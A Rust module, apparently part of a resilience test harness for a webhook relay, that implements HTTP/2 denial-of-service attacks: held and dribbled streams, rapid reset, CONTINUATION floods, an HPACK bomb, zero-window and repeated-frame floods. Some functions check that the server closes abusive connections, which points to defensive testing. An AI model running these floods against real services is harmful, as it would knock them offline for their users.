//! Attacks over HTTP/2.

use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use tokio::time::timeout;

use super::http1::BODY_MAX;
use crate::held::Held;
use crate::http2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, FRAME_MAX, HEADERS, LAST_REMEMBERED, PING, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, frame, get, greeting, post, remembered, streams, unnamed,
};
use crate::target::{Crowd, Stream, Target};

const PATH: &str = "/webhooks/stranger";

/// Nothing follows the heads.
const HELD: Held = Held { streams: 128, block: Vec::new(), body_bytes: 0, dribbles: false, ends: false, window: None };

pub async fn heads(target: Arc<Target>) {
    hold(target, 1, Held { streams: 32, block: post(PATH, Some(BODY_MAX)), ..HELD }).await;
}

pub async fn slow_bodies(target: Arc<Target>, connections: usize) {
    hold(target, connections, Held { block: post(PATH, None), dribbles: true, ..HELD }).await;
}

/// 60 KiB of each body, the rest never.
pub async fn cut_bodies(target: Arc<Target>, connections: usize) {
    hold(target, connections, Held { block: post(PATH, None), body_bytes: 60 << 10, ..HELD }).await;
}

pub async fn paths(target: Arc<Target>, connections: usize) {
    let path = format!("/webhooks/{}", "a".repeat(15_000));
    hold(target, connections, Held { block: post(&path, None), ..HELD }).await;
}

async fn hold(target: Arc<Target>, connections: usize, held: Held) {
    let each = move |stream: Stream| held.clone().hold(stream);
    Crowd::holding(target.webhooks, connections).run(target, each).await;
}

pub async fn rapid_reset(target: Arc<Target>, connections: usize) {
    flood(target, connections, greeting(None), reset_stream).await;
}

fn reset_stream(id: u32) -> Vec<u8> {
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    [frame(HEADERS, END_HEADERS | END_STREAM, id, &get("/")), frame(RST_STREAM, 0, id, &CANCEL)].concat()
}

/// The h2 crate writes a warning for each connection that resets more than 20 streams before they are accepted.
pub async fn reset_connections(target: Arc<Target>) {
    let bytes = Bytes::from([greeting(None), streams().take(40).flat_map(reset_stream).collect()].concat());
    let each = move |mut stream: Stream| {
        let bytes = bytes.clone();
        async move {
            stream.send(&bytes).await?;
            timeout(Duration::from_secs(1), stream.read_to_the_end()).await.unwrap_or(Ok(()))
        }
    };
    Crowd::flooding(target.webhooks, 8).run(target, each).await;
}

pub async fn continuation(target: Arc<Target>, connections: usize) {
    let first = [greeting(None), frame(HEADERS, 0, 1, &get("/"))].concat();
    flood_same(target, connections, first, frame(CONTINUATION, 0, 1, &fields(FRAME_MAX))).await;
}

/// Header fields of so many bytes at most.
fn fields(bytes: usize) -> Vec<u8> {
    let mut field = Vec::new();
    unnamed(&mut field, "x", &"a".repeat(100));
    field.repeat(bytes / field.len())
}

pub async fn partial_heads(target: Arc<Target>, connections: usize) {
    let block = [get("/"), fields(15_000)].concat();
    let bytes = Bytes::from([greeting(None), frame(HEADERS, 0, 1, &block)].concat());
    let each = move |mut stream: Stream| {
        let bytes = bytes.clone();
        async move {
            stream.send(&bytes).await?;
            stream.must_end("an HTTP/2 connection with a part of a head").await
        }
    };
    Crowd::holding(target.webhooks, connections).run(target, each).await;
}

pub async fn hpack_bomb(target: Arc<Target>, connections: usize) {
    let mut large = get("/");
    remembered(&mut large, "x", &"a".repeat(3900)); // the table that remembers has 4096 bytes
    let first = [greeting(None), frame(HEADERS, END_HEADERS | END_STREAM, 1, &large)].concat();
    let each = |id| {
        let block = [get("/"), vec![LAST_REMEMBERED; 16_000]].concat();
        frame(HEADERS, END_HEADERS | END_STREAM, id + 2, &block)
    };
    flood(target, connections, first, each).await;
}

pub async fn window_zero(target: Arc<Target>, connections: usize) {
    flood(target, connections, greeting(Some(0)), |id| frame(HEADERS, END_HEADERS | END_STREAM, id, &get("/nowhere")))
        .await;
}

pub async fn over_streams_max(target: Arc<Target>, connections: usize) {
    flood(target, connections, greeting(None), |id| frame(HEADERS, END_HEADERS, id, &post(PATH, None))).await;
}

/// After `first`, stream after stream as fast as the relay takes them.
async fn flood(target: Arc<Target>, connections: usize, first: Vec<u8>, of_stream: fn(u32) -> Vec<u8>) {
    const AT_ONCE: usize = 64;
    let first = Bytes::from(first);
    let each = move |mut stream: Stream| {
        let first = first.clone();
        async move {
            stream.send(&first).await?;
            let mut free = streams();
            stream.flood(|| free.by_ref().take(AT_ONCE).flat_map(of_stream).collect()).await
        }
    };
    Crowd::flooding(target.webhooks, connections).run(target, each).await;
}

pub fn priority() -> Vec<u8> {
    frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16])
}

pub fn settings() -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[])
}

pub fn ping() -> Vec<u8> {
    frame(PING, 0, 0, b"stranger")
}

pub fn window_update() -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])
}

/// The same small frame again and again.
pub async fn frames(target: Arc<Target>, connections: usize, one: fn() -> Vec<u8>) {
    flood_same(target, connections, greeting(None), one()).await;
}

pub async fn empty_data(target: Arc<Target>, connections: usize) {
    let first = [greeting(None), frame(HEADERS, END_HEADERS, 1, &post(PATH, None))].concat();
    flood_same(target, connections, first, frame(DATA, 0, 1, &[])).await;
}

/// After `first`, the same frame as fast as the relay takes it.
async fn flood_same(target: Arc<Target>, connections: usize, first: Vec<u8>, then: Vec<u8>) {
    let (first, then) = (Bytes::from(first), Bytes::from(then.repeat(FRAME_MAX.div_ceil(then.len()))));
    let each = move |mut stream: Stream| {
        let (first, then) = (first.clone(), then.clone());
        async move {
            stream.send(&first).await?;
            stream.flood(|| then.clone()).await
        }
    };
    Crowd::flooding(target.webhooks, connections).run(target, each).await;
}

pub async fn silent(target: Arc<Target>, connections: usize) {
    let each = |mut stream: Stream| async move {
        stream.send(&greeting(None)).await?;
        stream.read_to_the_end().await
    };
    Crowd::holding(target.webhooks, connections).run(target, each).await;
}

/// A PING is no request: it must not keep a connection.
pub async fn kept_alive(target: Arc<Target>) {
    let each = |mut stream: Stream| async move {
        stream.send(&greeting(None)).await?;
        loop {
            stream.send(&ping()).await?;
            if let Ok(ended) = timeout(Duration::from_secs(2), stream.read_to_the_end()).await {
                return ended;
            }
        }
    };
    Crowd::holding(target.webhooks, target.connections_max).run(target, each).await;
}
